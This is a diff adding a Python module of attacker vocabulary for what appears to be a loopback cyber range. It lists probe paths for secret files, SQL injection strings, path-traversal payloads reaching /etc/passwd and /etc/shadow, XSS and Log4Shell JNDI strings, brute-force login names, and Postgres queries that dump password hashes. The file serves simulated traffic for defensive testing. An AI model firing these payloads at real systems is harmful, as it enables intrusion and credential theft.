@@ -1,0 +1,118 @@
+"""The words attackers of the range use: well-known, public, and harmless on this loopback."""
+
+__all__ = ["CATALOG_QUERIES", "INJECTIONS", "LOGIN_NAMES", "PATHS", "SCRIPTS", "TRAVERSAL"]
+
+PATHS = (
+    *(
+        "/.git/config",
+        "/.git/HEAD",
+        "/.env",
+        "/.env.bak",
+        "/.svn/entries",
+        "/admin/",
+        "/admin/login",
+    ),
+    *("/phpinfo.php", "/info.php", "/phpmyadmin/index.php", "/wp-login.php", "/wp-admin/setup.php"),
+    *(
+        "/manager/html",
+        "/actuator/env",
+        "/actuator/heapdump",
+        "/druid/index.html",
+        "/nacos/v1/auth",
+    ),
+    *(
+        "/swagger-ui.html",
+        "/v2/api-docs",
+        "/console",
+        "/solr/admin",
+        "/jenkins/login",
+        "/cgi-bin/test",
+    ),
+    *(
+        "/config.json",
+        "/config.php.bak",
+        "/web.config",
+        "/server-status",
+        "/.DS_Store",
+        "/.htpasswd",
+    ),
+    *("/backup.zip", "/backup.sql", "/www.tar.gz", "/db.sql.gz", "/site.rar", "/old/index.php"),
+    *(
+        "/index.php.bak",
+        "/index.jsp~",
+        "/WEB-INF/web.xml",
+        "/seeyon/htmlofficeservlet",
+        "/ueditor/net",
+    ),
+)
+INJECTIONS = (
+    "' OR 1=1--",
+    "' OR 'a'='a",
+    "'",
+    "')",
+    '" OR 1=1',
+    "' AND 1=2 UNION SELECT 1,2--",
+    "' UNION SELECT NULL,NULL,NULL--",
+    "' UNION SELECT 1,version()--",
+    "' ORDER BY 9--",
+    "' UNION SELECT 1,secret FROM api_secret--",
+    "' UNION SELECT 1,note FROM citizen_stub--",
+    "' AND CAST((SELECT current_user) AS int)=1--",
+    "'; SELECT pg_sleep(0)--",
+    "' AND EXTRACTVALUE(1,2)--",
+    "' UNION SELECT 1,table_name FROM information_schema.tables--",
+    "' AND 1=CONVERT(int,@@version)--",
+)
+TRAVERSAL = (
+    "/files/../../../../etc/passwd",
+    "/files/..%2f..%2f..%2f..%2fetc%2fpasswd",
+    "/files/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
+    "/files/....//....//etc/passwd",
+    "/help/..%252f..%252fetc/passwd",
+    "/files/..%5c..%5cwindows%5cwin.ini",
+    "/api/../../etc/hosts",
+    "/static/../../../proc/self/environ",
+    "/files/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
+)
+SCRIPTS = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "javascript:alert(document.cookie)",
+    "${jndi:ldap://127.66.6.6:1389/a}",
+    "${jndi:${lower:l}dap://127.66.6.6/x}",
+    "<svg/onload=alert(2)>",
+    "{{7*7}}",
+    "${${::-j}ndi:rmi://127.66.6.6/o}",
+    "%{(#a='x')}",
+    "<iframe src=//127.66.6.6>",
+)
+LOGIN_NAMES = (
+    *("root", "admin", "test", "oracle", "postgres", "ubuntu", "guest", "ftpuser", "git", "hadoop"),
+    *("weblogic", "tomcat", "jenkins", "zabbix", "nagios", "user", "www", "mysql", "deploy", "dev"),
+    *("administrator", "support", "es", "kafka", "redis", "docker", "pi", "operator", "webadmin"),
+    *(
+        "backup1",
+        "sysadmin",
+        "zhangwei",
+        "liuyang",
+        "wangfang",
+        "chenjing",
+        "test1",
+        "test2",
+        "demo",
+    ),
+)
+CATALOG_QUERIES = (
+    "SELECT version()",
+    "SELECT current_user, session_user",
+    "SELECT datname FROM pg_catalog.pg_database",
+    "SELECT rolname, rolsuper FROM pg_catalog.pg_roles",
+    "SELECT usename, passwd FROM pg_catalog.pg_shadow",
+    "SELECT tablename, tableowner FROM pg_catalog.pg_tables",
+    "SELECT * FROM pg_catalog.pg_authid",
+    "SELECT column_name FROM information_schema.columns WHERE column_name LIKE '%secret%'",
+    "SELECT relname, relacl FROM pg_catalog.pg_class WHERE relkind = 'r'",
+    "SELECT name, setting FROM pg_catalog.pg_settings WHERE name LIKE '%dir%'",
+    "SELECT proname FROM pg_catalog.pg_proc WHERE prosecdef",
+    "SELECT * FROM pg_catalog.pg_hba_file_rules",
+)
